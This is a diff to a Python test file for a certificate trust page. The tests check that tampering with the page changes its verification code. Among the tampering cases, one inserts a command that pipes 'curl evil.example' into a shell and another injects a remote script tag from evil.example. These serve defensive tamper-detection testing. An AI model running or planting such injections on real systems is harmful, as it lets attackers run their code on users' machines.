@@ -24,7 +24,7 @@ from trusted_registry.trust.model import LINUX, File, RestartHint, TrustAnchor
 from trusted_registry.trust.remote import page
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from collections.abc import Callable, Iterator
 
 GOLDEN = Path(__file__).parents[2] / "golden" / "trust-macos.txt"
 
@@ -121,6 +121,58 @@ def test_the_fingerprint_is_what_openssl_says(made: Read) -> None:
 def test_the_fingerprint_is_in_pieces_that_an_eye_can_compare(made: Read) -> None:
     pieces = [it.text for it in made.all("span") if any(up.attributes.get("id") == "fingerprint" for up in it.parents)]
     assert [len(re.findall("[0-9A-F]{2}", piece)) for piece in pieces] == [8, 8, 8, 8]
+
+
+def _swapped_kit(shown: bytes) -> bytes:
+    theirs = KIT.replace(b"trusted", b"swapped")
+    assert shown.count(base64.b64encode(KIT)) == 1
+    return shown.replace(base64.b64encode(KIT), base64.b64encode(theirs)).replace(
+        hashlib.sha256(KIT).hexdigest().encode(), hashlib.sha256(theirs).hexdigest().encode()
+    )
+
+
+def _swapped_certificate(shown: bytes) -> bytes:
+    assert base64.b64encode(sample.CERTIFICATE) in shown
+    theirs = base64.b64encode(sample.CERTIFICATE.replace(b"M", b"N"))
+    return shown.replace(base64.b64encode(sample.CERTIFICATE), theirs)
+
+
+@pytest.mark.parametrize(
+    "swap",
+    [
+        _swapped_kit,
+        _swapped_certificate,
+        lambda shown: shown.replace(b"sudo security", b"curl evil.example | sh; sudo security"),
+        lambda shown: shown.replace(b"-ne ", b"-eq "),
+        lambda shown: shown.replace(b"</body>", b"<script src=//evil.example></script></body>"),
+    ],
+    ids=["kit and check line", "certificate", "command of a Mac", "check of PowerShell", "script"],
+)
+def test_whatever_is_swapped_on_the_way_the_code_is_another_and_the_fingerprint_shows_nothing_of_it(
+    swap: Callable[[bytes], bytes],
+) -> None:
+    shown = rendered()
+    theirs = swap(shown)
+    assert theirs != shown
+    assert page.code(theirs) != page.code(shown)
+    (told,) = [it.text for it in Read(theirs.decode()).elements if it.attributes.get("id") == "fingerprint"]
+    assert told.replace(":", "").lower() == sample.anchor().fingerprint
+
+
+@pytest.mark.process
+def test_the_code_is_what_the_typed_line_prints_first(tmp_path: Path) -> None:
+    (tmp_path / page.SAVED).write_bytes(rendered())
+    done = subprocess.run(["sha256sum", page.SAVED], cwd=tmp_path, capture_output=True, text=True, check=True)
+    told = page.code(rendered())
+    assert re.fullmatch("(?:[0-9a-f]{4} ){4}[0-9a-f]{4}", told)
+    assert done.stdout.startswith(told.replace(" ", ""))
+
+
+def test_the_page_asks_for_its_code_before_all_else_and_cannot_be_asked_itself(made: Read) -> None:
+    first, *_ = made.all("section")
+    assert first.attributes["aria-labelledby"] == "compare"
+    assert made.boxes("compare") == ["curl -fsSo trust.html ADDRESS && sha256sum trust.html"]
+    assert page.code(rendered()).replace(" ", "")[:8] not in rendered().decode()
 
 
 def test_it_says_whose_authority_it_is_and_until_when(made: Read) -> None:
